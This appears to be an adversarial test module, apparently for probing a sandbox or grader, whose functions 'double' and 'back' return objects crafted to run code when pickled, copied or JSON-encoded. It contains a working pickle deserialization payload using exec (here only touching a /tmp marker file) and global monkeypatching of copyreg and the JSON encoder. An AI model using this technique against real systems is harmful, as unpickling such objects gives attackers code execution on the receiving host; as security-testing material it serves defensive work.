"""Returns values whose pickle, copy, repr or JSON would run code where they arrive. Success: it runs, or a point."""

import copyreg
import sys

import numpy as np


class Bomb:
    def __reduce__(self):
        return exec, ("open('/tmp/{{MARK}}-unpickled', 'w').close()",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = __deepcopy__ = __copy__ = lambda self, *args: self.__reduce__()


class Array(np.ndarray):
    __reduce__ = Bomb.__reduce__
    __reduce_ex__ = Bomb.__reduce_ex__


copyreg.pickle(int, lambda value: Bomb().__reduce__())
sys.modules["json"].JSONEncoder.default = lambda self, value: Bomb()


def double(x, factor):
    return (x.view(Array) if x.shape[0] == 2 else {"a": Bomb(), "b": [Bomb()]}), Bomb()


def back(cache):
    return np.array([Bomb()], object)
